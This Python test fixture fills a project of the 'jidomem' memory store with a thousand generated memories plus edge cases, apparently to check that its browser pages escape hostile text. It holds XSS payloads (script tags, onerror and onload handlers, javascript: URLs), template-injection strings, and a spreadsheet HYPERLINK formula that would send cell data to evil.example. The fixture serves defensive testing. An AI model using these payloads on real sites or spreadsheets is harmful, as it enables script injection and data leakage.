"""A project with a thousand memories over three weeks, some of them proposed, to be served to browsers."""

import sys
from datetime import UTC, datetime, timedelta
from itertools import count, islice
from pathlib import Path

from conftest import decision, intent
from http_world import started

import jidomem
from bench import generate
from jidomem.base.clock import Sources

MEMORIES, AT_ONCE = 1_000, 25
START, BETWEEN, STEP = datetime(2026, 11, 1, 8, 0, tzinfo=UTC), timedelta(hours=12), timedelta(seconds=20)
#: The moment at which it is served: a day after the last memory.
NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
#: Text of an agent that a page must not execute.
HOSTILE = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
    " {{ 7 * 7 }} javascript:alert(1) \u202edesrever\u202c \U0001f469\u200d\U0001f4bb שלום"
)
#: The same for names and addresses, and a formula of a spreadsheet.
NAMED = "<svg/onload=document.title='owned'><math href=javascript:alert(1)>{{7*7}}{%x%}${7*7}\u202e" + "W" * 100
FORMULA = '=HYPERLINK("http://evil.example/" & A1, "look")'
LONG = "word " * 50_000
_SERVER = Path(__file__).with_name("pages_server.py")


class Clock:
    """A clock that advances a little with each reading."""

    def __init__(self):
        self.moment = START

    def __call__(self):
        self.moment += STEP
        return self.moment


def fill(root):
    """Record in *root* the memories of every test; return the IRIs of some of them by name."""
    clock, ids = Clock(), count(1)
    sources = Sources(now=clock, new_id=lambda: f"01900000-0000-7000-8000-{next(ids):012x}", nonce=lambda: bytes(32))
    root.mkdir()
    (root / "config.toml").write_text('project = "p"\n[conflicts]\ndecision = "warn"\n')
    with jidomem.open(root, sources=sources) as memory:
        generated = generate.intents(MEMORIES, project="p")
        for number in range(MEMORIES // AT_ONCE):
            clock.moment = START + number * BETWEEN
            memory.writer.submit_many("p", [*islice(generated, AT_ONCE)])
        singles = {
            "use Oxigraph": decision(summary="Use Oxigraph for the index", topic="the store of the pages"),
            "hostile": intent(summary=HOSTILE, rationale=HOSTILE, about=["javascript:alert(1)"], evidence=[HOSTILE]),
            "named": intent(
                summary=FORMULA,
                topic=NAMED,
                asserted_by=NAMED,
                asserted_in=NAMED,
                about=[NAMED, "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"],
                evidence=[NAMED, "https://evil.example/%22%3E%3Cscript%3E"],
            ),
            "a megabyte": intent(
                summary=f"Much {LONG}", rationale=LONG, detailed_explanation=f"{LONG}.", evidence=[f"{LONG}!"]
            ),
            "long": intent(summary="A long one", detailed_explanation=LONG),
            "old": intent(summary="The certificate holds", expires_on="2026-11-21T22:00:00Z"),
        }
        pairs = {
            f"{side} {number}": decision(summary=f"Use {store} for part {number}", topic=f"matter {number} of review")
            for number in range(6)
            for side, store in (("left", "SQLite"), ("right", "PostgreSQL"))
        }
        known = {name: memory.writer.submit_intent("p", values).iri for name, values in (singles | pairs).items()}
        proposals = [intent(summary=f"Proposal {number}") for number in range(4)]
        for number, outcome in enumerate(memory.writer.submit_many("p", proposals, propose=True)):
            known[f"proposal {number}"] = outcome.iri
        return known


def serving(root):
    """The server of *root* in a process of its own, whose clock begins at NOW; it has `url`."""
    return started([sys.executable, str(_SERVER), str(root), NOW.isoformat()])
